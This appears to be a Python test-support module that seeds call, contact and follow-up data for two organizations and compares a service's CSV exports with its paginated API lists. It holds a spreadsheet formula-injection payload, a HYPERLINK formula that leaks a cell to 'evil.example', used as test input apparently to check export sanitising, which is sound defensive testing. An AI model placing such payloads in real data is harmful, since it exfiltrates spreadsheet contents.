"""An organization with a row of every exported kind (through the runtime's and the API's real endpoints), and
another organization with rows of its own; the comparison of an export with its list."""

import csv
import io
import re
from datetime import datetime, timedelta

from core.csvexport import cell
from knowledge.services import calendar_create, escalation_rule_create, location_create, team_member_create
from tests.support.runtime import T0, Runtime, iso

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ISO_Z = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
KINDS = ("calls", "contacts", "bookings", "orders", "callbacks", "messages", "escalations")


def _follow_ups(org, runtime, call_id, *, location):
    member = team_member_create(org=org, name="Maria Lopez", phone_number="+14155550112")
    rule = escalation_rule_create(org=org, name="Manager", destination_type="team_member",
                                  destination_team_member=member, keywords=["manager"])
    calendar = calendar_create(org=org, name="Chairs", timezone_name="UTC", location=location,
                               weekly_hours=[{"day": "mon", "start": "00:00", "end": "24:00"}])
    assert runtime.event(call_id, type="callback_requested", label="cb", data={
        "requested_window": "afternoon", "reason": HYPERLINK, "callback_number": "+14155550199"}).status_code == 201
    assert runtime.event(call_id, type="escalation_triggered", label="esc", data={
        "rule_id": str(rule.id), "triggered_by": "keyword", "context": "manager please"}).status_code == 201
    assert runtime.event(call_id, type="appointment_booked", label="book", data={
        "calendar_id": str(calendar.id), "start_at": "2030-01-07T10:00:00Z",
        "end_at": "2030-01-07T10:30:00Z"}).status_code == 201


def export_rows(org, other_org, api) -> dict:
    """Three calls of `org` (an order with a recording and every follow-up, a message at another location whose
    summary is a formula, one still in progress), a contact made through the API; one call of `other_org`."""
    main = location_create(org=org, name="Main", address="1 Main St", timezone="America/New_York",
                           phone_number="+12125550100")
    annex = location_create(org=org, name="Annex", address="2 Main St", timezone="America/Los_Angeles",
                            phone_number="+12125550101")
    runtime = Runtime(org)
    ordered, _ = runtime.start(location_id=main.pk)
    _follow_ups(org, runtime, ordered, location=main)
    assert runtime.complete(ordered, messages=[{"message": "Call me"}]).status_code in (200, 201)
    assert runtime.upload(ordered).status_code in (200, 201)
    message, _ = runtime.start(location_id=annex.pk, started_at=T0 + timedelta(hours=1), from_number="+14155550777")
    done = runtime.complete(message, outcome="message", summary=HYPERLINK, outcome_tags=["message", "+1"],
                            messages=[{"message": "-2+3 is what I owe", "caller_name": "@Sam"}],
                            ended_at=iso(T0 + timedelta(hours=1, minutes=2)))
    assert done.status_code in (200, 201), done.content
    runtime.start(started_at=T0 + timedelta(hours=2), from_number="+14155550888")
    assert api.post("/v1/contacts", {"phone_number": "+14155550999", "name": HYPERLINK, "notes": "Line\none, \"q\""},
                    format="json").status_code == 201
    rival = Runtime(other_org)
    theirs, _ = rival.start(from_number="+14155550666")
    assert rival.complete(theirs, caller={"name": "Rival Person", "email": "r@example.com"},
                          messages=[{"message": "Rival"}]).status_code in (200, 201)
    return {"main": main, "annex": annex, "ordered": runtime.call(ordered), "message": runtime.call(message)}


def listed(client, kind: str, params=None) -> list[dict]:
    """Every item `GET /v1/<kind>` lists for `params`, page after page."""
    items, params = [], {**(params or {}), "limit": 2}
    while True:
        response = client.get(f"/v1/{kind}", params)
        assert response.status_code == 200, response.content
        body = response.json()
        items += body["data"]
        if not body["has_more"]:
            return items
        params["cursor"] = body["next_cursor"]


def exported(client, kind: str, params=None) -> list[list[str]]:
    response = client.get(f"/v1/exports/{kind}.csv", params or {})
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="{kind}-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"), newline="")))


def as_cells(item: dict) -> list[str]:
    """A list item as the export writes it: its timestamps (the API's `Z` form) with their offset."""
    return [cell(datetime.fromisoformat(value) if isinstance(value, str) and ISO_Z.fullmatch(value) else value)
            for value in item.values()]
